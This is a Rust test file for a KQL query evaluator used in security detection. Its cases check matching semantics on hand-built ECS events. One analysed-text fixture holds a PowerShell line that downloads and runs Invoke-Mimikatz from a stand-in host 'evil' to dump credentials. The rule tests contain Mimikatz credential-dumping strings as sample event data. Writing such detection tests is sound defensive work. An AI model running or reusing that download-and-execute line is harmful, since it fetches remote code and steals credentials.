//! KQL semantics case by case, on events built by hand: the cases of
//! detection-rules' KQL evaluator tests (`tests/kuery/test_evaluator.py`)
//! on ECS fields of each type, and what Elasticsearch does beyond them
//! (analysed text, must_not on a missing field, query_string wildcards,
//! CIDR, date math, escapes).

use quarry_event::Event;
use quarry_kql::{KqlOptions, compile, compile_with_warnings};

/// The evaluator tests' document, on ECS fields of the same types.
fn doc() -> Event {
    let mut ev = Event::default();
    ev.set("destination.port", 1i64); // number
    ev.set("process.code_signature.trusted", true); // boolean
    ev.set("source.ip", "192.168.16.3"); // ip
    ev.set("process.name", "hello world"); // keyword
    ev.set("process.args", vec!["hello world", "example"]); // keyword list
    ev.set("process.args_count", vec![1i64, 2, 3]); // number list
    ev.set("dll.code_signature.trusted", vec![true, false]); // boolean list
    ev.set("event.created", "2024-03-31T10:20:30.000Z"); // date
    ev
}

fn now() -> i64 {
    quarry_event::parse_timestamp("2024-04-01T00:00:00Z").expect("a date")
}

fn eval_on(q: &str, ev: &Event) -> bool {
    let opts = KqlOptions {
        now: Some(now()),
        ..KqlOptions::default()
    };
    compile(q, &opts)
        .unwrap_or_else(|e| panic!("{q}: {e}"))
        .matches(ev)
}

fn yes(q: &str) {
    assert!(eval_on(q, &doc()), "{q} should match");
}

fn no(q: &str) {
    assert!(!eval_on(q, &doc()), "{q} should not match");
}

#[test]
fn single_values() {
    yes("destination.port:1");
    yes("destination.port:\"1\"");
    yes("process.code_signature.trusted:true");
    yes("process.name:\"hello world\"");
    // an unquoted value with spaces is one value: a `match` on a keyword
    yes("process.name:hello world");
    no("destination.port:0");
    no("process.code_signature.trusted:false");
    no("process.name:\"missing\"");
    // keyword: exact and case-sensitive
    no("process.name:\"Hello World\"");
    no("process.name:hello");
}

#[test]
fn list_values() {
    yes("process.args_count:1");
    yes("process.args_count:2");
    yes("process.args_count:3");
    yes("dll.code_signature.trusted:true");
    yes("dll.code_signature.trusted:false");
    yes("process.args:\"hello world\"");
    yes("process.args:example");
    no("process.args_count:4");
    no("process.args:\"missing\"");
}

#[test]
fn value_lists() {
    yes("process.args_count:(1 and 2)");
    yes("dll.code_signature.trusted:(false and true)");
    no("process.name:(\"missing\" and \"hello world\")");
    no("destination.port:(0 and 1)");
    no("process.code_signature.trusted:(false and true)");
    yes("destination.port:(0 or 1)");
    yes("destination.port:(1 or 2)");
    yes("process.code_signature.trusted:(false or true)");
    yes("process.name:(\"missing\" or \"hello world\")");
    no("destination.port:(0 or 3)");
    // precedence inside a list: or < and < not
    yes("process.args:(missing or example and not other)");
    no("process.args:(missing or example and not \"hello world\")");
    yes("process.args:((missing or example) and \"hello world\")");
}

#[test]
fn not_is_must_not() {
    yes("process.args_count:1");
    no("not process.args_count:1");
    no("process.args_count:(not 1)");
    // a document without the field matches `not f: x`, ranges and CIDR too
    yes("not user.name:root");
    yes("not user.name:*");
    yes("not host.uptime > 5");
    yes("not destination.ip: 10.0.0.0/8");
    yes("not event.ingested < now");
    yes("user.name:(not root)");
    no("user.name:*");
    no("host.uptime > 5 or destination.ip: 10.0.0.0/8");
}

#[test]
fn boolean_operators() {
    yes("destination.port:1 and process.code_signature.trusted:true");
    no("destination.port:1 and process.code_signature.trusted:false");
    yes("destination.port:1 or process.code_signature.trusted:false");
    no("destination.port:0 or process.code_signature.trusted:false");
    // precedence: or < and < not
    yes("destination.port:0 and process.name:x or destination.port:1");
    no("destination.port:0 and (process.name:x or destination.port:1)");
    yes("not destination.port:0 and destination.port:1");
    yes("NOT destination.port:0 AND destination.port:1");
}

#[test]
fn ranges() {
    yes("destination.port < 2");
    no("destination.port > 2");
    yes("destination.port >= 1");
    yes("destination.port <= 1");
    no("destination.port < 1");
    yes("process.args_count > 2");
    // on a string field: string order
    yes("process.name > hello");
    no("process.name < hello");
    // a field the schemas do not know with a number: numeric
    let mut ev = Event::default();
    ev.set("powershell.file.script_block_entropy_bits", 5.2);
    ev.set("custom.count", "12");
    assert!(eval_on(
        "powershell.file.script_block_entropy_bits >= 4.5",
        &ev
    ));
    assert!(eval_on("custom.count > 9", &ev));
}

#[test]
fn dates_and_date_math() {
    yes("event.created < now");
    yes("event.created >= now-1d");
    no("event.created >= now-1h");
    yes("event.created >= now-1d/d");
    yes("event.created:2024-03-31");
    no("event.created:2024-03-30");
    yes("event.created > 2024-03-30 and event.created <= 2024-03-31");
    no("event.created > 2024-03-31");
    yes("event.created:\"2024-03-31T10:20:30Z\"");
}

#[test]
fn cidr_and_ips() {
    yes("source.ip:192.168.0.0/16");
    no("source.ip:10.0.0.0/8");
    yes("source.ip:192.168.16.3");
    yes("source.ip:(10.0.0.0/8 or 172.16.0.0/12 or 192.168.0.0/16)");
    yes("source.ip >= 192.168.16.0");
    yes("source.ip < 192.168.16.4");
    no("source.ip > 192.168.16.3");
    let mut ev = Event::default();
    ev.set("source.ip", "::1");
    assert!(eval_on("source.ip: \"::1\"", &ev));
    assert!(eval_on("source.ip: \"::/0\"", &ev));
    // an ip field holding an address value
    let mut ev = Event::default();
    ev.set(
        "destination.ip",
        "10.0.0.1".parse::<std::net::IpAddr>().expect("ip"),
    );
    assert!(eval_on("destination.ip: 10.0.0.0/8", &ev));
}

#[test]
fn wildcards_on_keywords() {
    yes("process.name:hello*");
    yes("process.name:*world");
    yes("process.name:h*o*w*d");
    // whitespace splits a query_string into terms: neither `h*o` nor `w*d`
    // is all of "hello world"
    no("process.name:h*o w*d");
    no("process.name:foobar*");
    // case-sensitive
    no("process.name:Hello*");
    // quoted: `*` and `?` literal
    no("process.name:\"hello*\"");
    no("process.name:'*'");
    no("process.name:'?'");
    let mut ev = Event::default();
    ev.set("process.name", "a?c*");
    assert!(eval_on("process.name:a?c*", &ev));
    assert!(eval_on(r"process.name:a?c\*", &ev));
    assert!(!eval_on("process.name:abc*", &ev));
    assert!(eval_on("process.name:\"a?c*\"", &ev));
    // a query_string splits on whitespace: terms OR-ed
    let mut ev = Event::default();
    ev.set("process.name", "S3");
    assert!(eval_on("process.name:S3 Browser*", &ev));
    ev.set("process.name", "S3 Browser.exe");
    assert!(!eval_on("process.name:S3 Browser*", &ev));
}

#[test]
fn escapes() {
    let mut ev = Event::default();
    ev.set("process.executable", r"C:\Windows\System32\cmd.exe");
    assert!(eval_on(
        r"process.executable:C\:\\Windows\\System32\\cmd.exe",
        &ev
    ));
    assert!(eval_on(r"process.executable:C\:\\Windows\\*", &ev));
    assert!(eval_on(
        r#"process.executable:"C:\Windows\System32\cmd.exe""#,
        &ev
    ));
    assert!(eval_on(
        r#"process.executable:"C:\\Windows\\System32\\cmd.exe""#,
        &ev
    ));
    ev.set("process.name", "(x) or y: \"z\"");
    assert!(eval_on(r#"process.name:\(x\) \or y\: \"z\""#, &ev));
    // escaped keywords are values
    ev.set("process.name", "and");
    assert!(eval_on(r"process.name:\and", &ev));
    assert!(eval_on(r"process.name:(a or \and)", &ev));
}

#[test]
fn caseless_multi_fields() {
    let mut ev = Event::default();
    ev.set("process.name", "CMD.EXE");
    assert!(eval_on("process.name.caseless:cmd.exe", &ev));
    assert!(eval_on("process.name.caseless:cmd*", &ev));
    assert!(!eval_on("process.name:cmd.exe", &ev));
}

#[test]
fn exists() {
    for f in [
        "destination.port",
        "process.code_signature.trusted",
        "source.ip",
        "process.name",
        "process.args",
        "process.args_count",
        "dll.code_signature.trusted",
    ] {
        yes(&format!("{f}:*"));
    }
    no("a:*");
    // an object: any field below it
    yes("process.code_signature:*");
    no("process.parent:*");
    // an explicit null is no value
    let mut ev = Event::default();
    ev.insert_id(
        quarry_event::field_id("user.name"),
        quarry_event::Value::Null,
    );
    assert!(!eval_on("user.name:*", &ev));
}

#[test]
fn analysed_text() {
    let mut ev = Event::default();
    ev.set(
        "powershell.file.script_block_text",
        "$s = [System.Convert]::ToInt16($x); IEX (New-Object Net.WebClient).DownloadString('http://evil/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
    );
    ev.set(
        "message",
        "Loading out-of-tree module taints kernel. segfault at 0 ip",
    );
    let m = |q: &str| eval_on(q, &ev);
    // a phrase: consecutive tokens, any case, punctuation between ignored
    assert!(m(
        "powershell.file.script_block_text:\"[convert]::toint16\""
    ));
    assert!(m("powershell.file.script_block_text:\"Net.WebClient\""));
    assert!(m("powershell.file.script_block_text:\"invoke-mimikatz\""));
    assert!(!m("powershell.file.script_block_text:\"WebClient Net\""));
    // `-` is part of a token for this analyzer
    assert!(!m("powershell.file.script_block_text:\"Invoke\""));
    assert!(m("powershell.file.script_block_text:\"-DumpCreds\""));
    // unquoted: any token
    assert!(m(
        "powershell.file.script_block_text:(nothing DownloadString)"
    ));
    assert!(m("powershell.file.script_block_text:DownloadString"));
    // a wildcard: lowercased, tested against each token
    assert!(m("powershell.file.script_block_text:*Mimikatz*"));
    assert!(m("powershell.file.script_block_text:Download*"));
    assert!(!m(
        "powershell.file.script_block_text:*WebClient\\).Download*"
    ));
    // the standard analyzer (approximated)
    assert!(m("message:\"loading out-of-tree module taints kernel.\""));
    assert!(m("message:segfault"));
    assert!(m("message:SEGFAULT"));
    assert!(!m("message:segfaul"));
    assert!(m("message:(segfault and kernel)"));
    assert!(!m("message:\"kernel loading\""));
    // ECS `.text` multi-fields read their parent
    let mut ev = Event::default();
    ev.set("process.command_line", "cmd.exe /c Whoami");
    assert!(eval_on("process.command_line.text:whoami", &ev));
    assert!(!eval_on("process.command_line:whoami", &ev));
}

#[test]
fn nested_and_wildcard_field_names() {
    let mut ev = Event::default();
    ev.set("gcp.audit.binding.action", "ADD");
    ev.set("gcp.audit.binding.role", "roles/owner");
    ev.set("file.hash.sha256", "abc");
    let m = |q: &str| eval_on(q, &ev);
    assert!(m("gcp.audit.binding:{ action: ADD and role: roles/owner }"));
    assert!(!m("gcp.audit.binding:{ action: REMOVE }"));
    assert!(m("file.hash.*:*"));
    assert!(m("file.hash.*: abc"));
    assert!(!m("file.hash.*: abd"));
    assert!(!m("dll.hash.*:*"));
    assert!(m("file.*.sha256:a*"));
}

#[test]
fn free_text() {
    let mut ev = Event::default();
    ev.set("process.name", "mimikatz.exe");
    ev.set("destination.port", 4444i64);
    ev.set("message", "Something Suspicious happened");
    let m = |q: &str| eval_on(q, &ev);
    assert!(m("mimikatz.exe"));
    assert!(m("\"mimikatz.exe\""));
    assert!(m("mimi*"));
    assert!(m("4444"));
    assert!(m("suspicious"));
    assert!(m("\"something suspicious\""));
    assert!(!m("Mimikatz.exe"));
    assert!(!m("nothing"));
    assert!(m("*"));
    assert!(m(""));
    assert!(m("mimikatz.exe and destination.port:4444"));
}

#[test]
fn warnings_name_the_field_and_the_nearest_known_one() {
    let c = compile_with_warnings(
        "process.nmae: x and destination.port: abc",
        &KqlOptions::default(),
    )
    .expect("compiles");
    assert_eq!(c.warnings.len(), 2, "{:?}", c.warnings);
    assert_eq!(c.warnings[0].field.as_deref(), Some("process.nmae"));
    assert_eq!(c.warnings[0].nearest(), Some("process.name"));
    assert!(c.warnings[0].message().contains("process.name"));
    assert_eq!(c.warnings[0].position, 0);
    assert!(c.warnings[1].message().contains("number"));
    // a rejected value never matches
    let mut ev = Event::default();
    ev.set("destination.port", "abc");
    assert!(!c.query.matches(&ev));
}

#[test]
fn errors_carry_the_position() {
    let e = compile("process.name: (a or b", &KqlOptions::default()).expect_err("unclosed");
    assert_eq!(e.position, 21);
    let shown = e.to_string();
    assert!(shown.contains("expected `)`"), "{shown}");
    assert!(shown.ends_with("^"), "{shown}");
    let e = compile(r"process.name: a\Wb", &KqlOptions::default()).expect_err("bad escape");
    assert_eq!(e.position, 15);
}

#[test]
fn elastic_rules_on_their_events() {
    // Security 1102, the log-cleared rule's shape
    let q = r#"host.os.type:windows and event.action:("audit-log-cleared" or "Log clear") and
  not winlog.provider_name:"AD FS Auditing""#;
    let mut ev = Event::default();
    ev.set("host.os.type", "windows");
    ev.set("event.action", "audit-log-cleared");
    ev.set("winlog.provider_name", "Microsoft-Windows-Eventlog");
    assert!(eval_on(q, &ev));
    ev.set("winlog.provider_name", "AD FS Auditing");
    assert!(!eval_on(q, &ev));
    // a script-block rule's shape
    let q = r#"event.category:process and host.os.type:windows and
  powershell.file.script_block_text : (
    "sekurlsa::logonpasswords" or ("crypto::certificates" and "CERT_SYSTEM_STORE_LOCAL_MACHINE")
  ) and not user.id : "S-1-5-18""#;
    let mut ev = Event::default();
    ev.set("event.category", vec!["process"]);
    ev.set("host.os.type", "windows");
    ev.set(
        "powershell.file.script_block_text",
        "Invoke-Mimikatz -Command '\"privilege::debug\" \"sekurlsa::logonPasswords\"'",
    );
    ev.set("user.id", "S-1-5-21-1-2-3-1001");
    assert!(eval_on(q, &ev));
    ev.set("user.id", "S-1-5-18");
    assert!(!eval_on(q, &ev));
}

#[test]
fn an_index_mapping_comes_before_the_schemas() {
    let mapping = quarry_eql::Mapping::from_json(&serde_json::json!({
        "properties": {
            "app": {"properties": {"note": {"type": "text"}, "size": {"type": "long"}}},
            "alias_name": {"type": "alias", "path": "process.name"}
        }
    }));
    let opts = KqlOptions {
        eql: quarry_eql::Options {
            mapping: Some(mapping),
            ..Default::default()
        },
        ..KqlOptions::default()
    };
    let mut ev = Event::default();
    ev.set("app.note", "Hello brave new World");
    ev.set("app.size", "12");
    ev.set("process.name", "cmd.exe");
    let c = compile_with_warnings(
        "app.note: world and app.size > 9 and alias_name: cmd.exe",
        &opts,
    )
    .expect("compiles");
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
    assert!(c.query.matches(&ev));
}

/// The evaluator tests' `test_flattening`: a field under arrays of objects
/// (`structured: [{a: [{b: 1}]}]`) is read at its dotted path, each value
/// of the arrays one value of the field, as Elasticsearch indexes an
/// object array.
#[test]
fn arrays_of_objects_flatten_to_their_dotted_paths() {
    let ev = Event::from_json(
        &serde_json::json!({
            "structured": [{"a": [{"b": 1}, {"b": 3}]}, {"a": {"b": 5}}],
            "related": {"ip": ["10.1.1.1", "192.168.1.5"], "user": ["alice", "Bob"]}
        }),
        quarry_event::Origin::default(),
    );
    let m = |q: &str| eval_on(q, &ev);
    assert!(m("structured.a.b:*"));
    assert!(m("structured.a.b:1"));
    assert!(m("structured.a.b:3 and structured.a.b:5"));
    assert!(!m("structured.a.b:2"));
    assert!(m("structured.a.b > 4"));
    assert!(!m("structured.a.b > 5"));
    // an ip list: CIDR and not, any value
    assert!(m("related.ip:192.168.0.0/16"));
    assert!(m("related.ip:10.0.0.0/8 and related.ip:192.168.1.5"));
    assert!(!m("not related.ip:10.0.0.0/8"));
    assert!(!m("related.ip:172.16.0.0/12"));
    assert!(m("not related.ip:172.16.0.0/12"));
    // a keyword list: wildcards and case per value
    assert!(m("related.user:B*"));
    assert!(!m("related.user:b*"));
    assert!(m("related.user:(alice and Bob)"));
    assert!(!m("related.user:(not alice)"));
}
